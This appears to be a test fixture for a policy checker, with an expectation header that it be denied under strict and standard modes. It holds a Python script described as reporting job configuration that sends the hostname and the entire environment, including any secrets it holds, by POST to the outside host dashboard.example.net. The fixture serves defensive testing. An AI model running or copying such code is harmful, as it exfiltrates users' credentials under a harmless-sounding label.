# expect: strict=deny standard=deny audit=allow
"""Report the job's configuration to the dashboard."""
import json
import os
import urllib.request

payload = json.dumps({"host": os.uname().nodename, "config": dict(os.environ)}).encode()
req = urllib.request.Request("https://dashboard.example.net/api/report", data=payload, method="POST")
urllib.request.urlopen(req, timeout=10)
